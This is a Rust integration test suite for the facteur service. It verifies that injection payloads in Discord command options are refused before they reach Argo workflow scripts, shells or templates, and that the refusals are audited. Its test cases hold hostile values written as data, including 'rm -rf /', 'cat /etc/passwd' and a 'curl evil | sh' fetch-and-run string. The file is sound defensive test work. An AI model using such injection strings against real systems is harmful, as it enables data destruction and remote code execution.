//! Members type anything: injection payloads against commands born from WorkflowTemplates that
//! use the value in a script's source, after `sh -c`, through `env`, and with a declared
//! pattern, each through the three ways in: a slash command through the real discord-adapter,
//! the `/events` compatibility endpoint, and `StartRun`. The argo-adapter's lint (on the fake
//! Kubernetes API) decides which options are shell-restricted; the server refuses on every path
//! alike, starts nothing, and audits the option and the rule, never the value.

use facteur_client::pb;
use facteur_tests::discord::*;
use facteur_tests::fake_kube::FakeKube;
use facteur_tests::stack::Adapter as ArgoAdapter;
use facteur_tests::*;
use serde_json::{Value, json};
use std::time::Duration;

const NS: &str = "argo-workflows";
const WAIT: Duration = Duration::from_secs(20);

/// A template exposing `message` as `command`, with `templates[0]` as given.
fn template(command: &str, main: Value, annotations: Value) -> Value {
    json!({
        "metadata": {
            "name": format!("{command}-tmpl"), "namespace": NS,
            "labels": {"facteur.proompteng.ai/command": command},
            "annotations": annotations,
        },
        "spec": {
            "entrypoint": "main",
            "arguments": {"parameters": [{"name": "message", "description": "What to say"}]},
            "templates": [main],
        },
    })
}

fn script(source: &str) -> Value {
    json!({"name": "main", "script": {"image": "alpine", "command": ["sh"], "source": source}})
}

/// What each command does with a payload: refused with this rule, or accepted.
struct Case {
    payload: String,
    script: Option<&'static str>,
    shell: Option<&'static str>,
    env: Option<&'static str>,
    pattern: Option<&'static str>,
}

fn cases() -> Vec<Case> {
    let c = |payload: &str, script, shell, env, pattern| Case {
        payload: payload.into(),
        script,
        shell,
        env,
        pattern,
    };
    let s = Some("shell");
    let p = Some("pattern");
    let t = Some("template_syntax");
    let l = Some("length");
    vec![
        c("hello world", None, None, None, None),
        c("hello'; ls -la /; echo '", s, s, None, None),
        c("$(cat /etc/passwd)", s, s, None, p),
        c("`id`", s, s, None, p),
        c("a; rm -rf /", s, s, None, None),
        c("true && reboot", s, s, None, p),
        c("line one\nline two", s, s, None, p),
        c("{{workflow.name}}", t, t, t, t),
        c("{{=sprig.trim('x')}}", t, t, t, t),
        c(&"a".repeat(1001), l, l, l, l),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn injection_payloads_are_refused_on_every_path_unless_the_template_allows_them() {
    let s = Stack::start(Options::default()).await;
    let kube = FakeKube::start().await;
    let argo = ArgoAdapter::start(&s.srv.grpc_url(), &kube, NS);
    kube.apply_template(template(
        "say-script",
        script("echo '{{workflow.parameters.message}}'"),
        json!({}),
    ));
    kube.apply_template(template(
        "say-shell",
        json!({"name": "main", "container": {"image": "alpine", "command": ["/bin/sh", "-c"],
            "args": ["echo {{workflow.parameters.message}}"]}}),
        json!({}),
    ));
    kube.apply_template(template(
        "say-env",
        json!({"name": "main", "script": {"image": "alpine", "command": ["sh"],
            "env": [{"name": "MESSAGE", "value": "{{workflow.parameters.message}}"}],
            "source": "echo \"$MESSAGE\""}}),
        json!({}),
    ));
    kube.apply_template(template(
        "say-pattern",
        script("echo '{{workflow.parameters.message}}'"),
        json!({
            "facteur.proompteng.ai/pattern.message": "[a-z ;'/-]+",
            "facteur.proompteng.ai/pattern-hint.message": "lower case words",
        }),
    ));
    let admin = s.srv.client(ADMIN_TOKEN).await;
    let catalog = || async {
        admin
            .admin()
            .list_catalog(pb::ListCatalogRequest {})
            .await
            .map(|r| r.into_inner().commands)
            .unwrap_or_default()
    };
    wait_until("the four commands", WAIT, || async {
        catalog()
            .await
            .iter()
            .filter(|c| c.name.starts_with("say-"))
            .count()
            == 4
    })
    .await;
    let option = |cmds: &[pb::CommandDefinition], name: &str| {
        cmds.iter()
            .find(|c| c.name == name)
            .and_then(|c| c.options.first().cloned())
            .expect("message option")
    };
    let cmds = catalog().await;
    assert_eq!(
        option(&cmds, "say-script").interpolated_in,
        ["templates[0].script.source"]
    );
    assert_eq!(
        option(&cmds, "say-shell").interpolated_in,
        ["templates[0].container.args[0]"]
    );
    assert!(option(&cmds, "say-env").interpolated_in.is_empty());
    let patterned = option(&cmds, "say-pattern");
    assert_eq!(
        (patterned.pattern.as_str(), patterned.pattern_hint.as_str()),
        ("[a-z ;'/-]+", "lower case words")
    );

    let store = &s.srv.server.state.store;
    let mut n = 0u64;
    let mut refused_payloads: Vec<(String, String)> = Vec::new();
    for case in cases() {
        for (command, want) in [
            ("say-script", case.script),
            ("say-shell", case.shell),
            ("say-env", case.env),
            ("say-pattern", case.pattern),
        ] {
            let what = format!("{:?} in /{command}", case.payload);
            if want.is_some() {
                refused_payloads.push((command.into(), case.payload.clone()));
            }

            // A slash command, through the discord-adapter.
            n += 1;
            let id = format!("7100000000000{n:05}");
            let (code, resp) = s
                .post(&facteur_tests::discord::command(
                    &id,
                    &[],
                    command,
                    json!([{"name": "message", "type": 3, "value": case.payload}]),
                ))
                .await;
            assert_eq!(code, 200, "{what}");
            let started = store.run_by_key(&format!("discord:{id}")).await.expect("q");
            match want {
                Some(rule) => {
                    let text = message_text(&resp["data"]);
                    assert!(
                        text.contains("`message`"),
                        "{what}: names the option: {text}"
                    );
                    if rule == "pattern" {
                        assert!(
                            text.contains("lower case words"),
                            "{what}: the hint: {text}"
                        );
                    }
                    assert!(!text.contains(&case.payload), "{what}: not echoed: {text}");
                    assert_eq!(resp["data"]["flags"], 64, "{what}: only the member sees it");
                    assert!(started.is_none(), "{what}: nothing started");
                    let audit = store.audit_events(GUILD, 5).await.expect("audit");
                    let entry = audit
                        .iter()
                        .find(|e| e.1 == "value_refused" && e.2 == command)
                        .unwrap_or_else(|| panic!("{what}: audited: {audit:?}"));
                    assert_eq!(entry.3["refused"][0]["option"], "message", "{what}");
                    assert_eq!(entry.3["refused"][0]["rule"], rule, "{what}");
                    assert_eq!(entry.3["interaction_id"], id.as_str(), "{what}");
                    assert!(
                        !entry.3.to_string().contains(&case.payload),
                        "{what}: the audit holds no value"
                    );
                }
                None => assert!(started.is_some(), "{what}: accepted: {resp}"),
            }

            // The compatibility endpoint.
            n += 1;
            let id = format!("7100000000000{n:05}");
            let event = facteur_proto::legacy::CommandEvent {
                provider: "discord".into(),
                interaction_id: id.clone(),
                application_id: "400000000000000001".into(),
                command: command.into(),
                token: "legacy-token".into(),
                options: [("message".to_string(), case.payload.clone())].into(),
                guild_id: GUILD.into(),
                channel_id: "500000000000000001".into(),
                user: Some(facteur_proto::legacy::DiscordUser {
                    id: "300000000000000001".into(),
                    username: "alice".into(),
                    ..Default::default()
                }),
                ..Default::default()
            };
            let auth = format!("Bearer {DISCORD_TOKEN}");
            let (code, body) = http(
                s.srv.server.http_addr,
                "POST",
                "/events",
                &[("Authorization", auth.as_str())],
                &prost::Message::encode_to_vec(&event),
            )
            .await;
            let body = String::from_utf8_lossy(&body).to_string();
            match want {
                Some(_) => {
                    assert_eq!(code, 400, "{what}: {body}");
                    assert!(body.contains("`message`"), "{what}: {body}");
                    assert!(
                        store
                            .run_by_key(&format!("discord:{id}"))
                            .await
                            .expect("q")
                            .is_none(),
                        "{what}: nothing started"
                    );
                }
                None => assert_eq!(code, 202, "{what}: {body}"),
            }

            // StartRun.
            n += 1;
            let key = format!("safe-input-{n}");
            let r = admin
                .admin()
                .start_run(pb::StartRunRequest {
                    cluster: String::new(),
                    command: command.into(),
                    parameters: [("message".to_string(), case.payload.clone())].into(),
                    idempotency_key: key.clone(),
                })
                .await;
            match want {
                Some(_) => {
                    let e = r.expect_err(&what);
                    assert_eq!(e.code(), tonic::Code::InvalidArgument, "{what}");
                    assert!(e.message().contains("`message`"), "{what}: {}", e.message());
                    assert!(store.run_by_key(&key).await.expect("q").is_none(), "{what}");
                }
                None => {
                    r.unwrap_or_else(|e| panic!("{what}: {e}"));
                }
            }
        }
    }
    // The admin's refusals are audited too (in no guild), without the values.
    let audit = store.audit_events("", 200).await.expect("audit");
    let admin_refusals: Vec<_> = audit.iter().filter(|e| e.1 == "value_refused").collect();
    assert_eq!(admin_refusals.len(), refused_payloads.len());
    for (_, payload) in &refused_payloads {
        for e in &admin_refusals {
            assert!(!e.3.to_string().contains(payload.as_str()));
        }
    }
    // Whatever was created, no refused value reached a Workflow.
    tokio::time::sleep(Duration::from_millis(500)).await;
    for wf in kube.creates() {
        let template = wf["spec"]["workflowTemplateRef"]["name"]
            .as_str()
            .unwrap_or("");
        for p in wf["spec"]["arguments"]["parameters"]
            .as_array()
            .into_iter()
            .flatten()
        {
            let value = p["value"].as_str().unwrap_or("");
            assert!(
                !refused_payloads
                    .iter()
                    .any(|(c, v)| template == format!("{c}-tmpl") && v == value),
                "a refused value reached {template}: {value:?}"
            );
        }
    }
    let m = &s.srv.server.state.metrics;
    assert!(
        m.counter(
            facteur_server::metrics::Metric::ValuesRefused,
            &[("command", "say-script"), ("rule", "shell")]
        ) >= 3 * 6,
        "counted by command and rule"
    );
    argo.stop().await;
    s.srv.stop().await;
}

/// A configured command's option is restricted by the template it runs, which carries no label:
/// the argo-adapter lints every template it watches and reports the unlabelled ones for what
/// they interpolate; a labelled template's templateRef is followed into another template.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn configured_commands_and_template_refs_are_linted_too() {
    use facteur_config::{CommandConfig, OptionConfig};
    let db = TestDb::new(Backend::Sqlite).await;
    let mut cfg = with_tokens(config(&db));
    cfg.commands = vec![CommandConfig {
        name: "note".into(),
        description: "Leave a note".into(),
        workflow_template: "note-tmpl".into(),
        options: vec![OptionConfig {
            name: "text".into(),
            description: "The note".into(),
            required: true,
            ..Default::default()
        }],
        ..Default::default()
    }];
    let srv = TestServer::start(cfg).await;
    let kube = FakeKube::start().await;
    let argo = ArgoAdapter::start(&srv.grpc_url(), &kube, NS);
    let mut unlabelled = template(
        "note",
        json!({"name": "main", "steps": [[{"name": "a",
            "templateRef": {"name": "shared", "template": "write"},
            "arguments": {"parameters": [{"name": "what", "value": "{{workflow.parameters.text}}"}]}}]]}),
        json!({}),
    );
    unlabelled["metadata"]["labels"] = json!({});
    unlabelled["spec"]["arguments"]["parameters"] = json!([{"name": "text"}]);
    kube.apply_template(unlabelled);
    kube.apply_template(json!({
        "metadata": {"name": "shared", "namespace": NS},
        "spec": {"templates": [{"name": "write", "inputs": {"parameters": [{"name": "what"}]},
            "script": {"image": "alpine", "command": ["sh"],
                "source": "echo '{{inputs.parameters.what}}' >> /notes"}}]},
    }));
    let admin = srv.client(ADMIN_TOKEN).await;
    let want = "templateRef(shared).spec.templates[0].script.source";
    wait_until("the configured option restricted", WAIT, || async {
        admin
            .admin()
            .list_catalog(pb::ListCatalogRequest {})
            .await
            .is_ok_and(|r| {
                r.into_inner().commands.iter().any(|c| {
                    c.name == "note"
                        && c.source == "configuration"
                        && c.options[0].interpolated_in == [want]
                })
            })
    })
    .await;
    let start = |text: &str, key: &str| {
        let mut a = admin.admin();
        let req = pb::StartRunRequest {
            cluster: String::new(),
            command: "note".into(),
            parameters: [("text".to_string(), text.to_string())].into(),
            idempotency_key: key.into(),
        };
        async move { a.start_run(req).await }
    };
    let e = start("done'; curl evil | sh; echo '", "n-1")
        .await
        .expect_err("shell metacharacters");
    assert_eq!(e.code(), tonic::Code::InvalidArgument);
    assert!(
        e.message().contains("the template passes it to a shell"),
        "{}",
        e.message()
    );
    start("deployed the api to prod", "n-2")
        .await
        .expect("plain text");
    argo.stop().await;
    srv.stop().await;
}
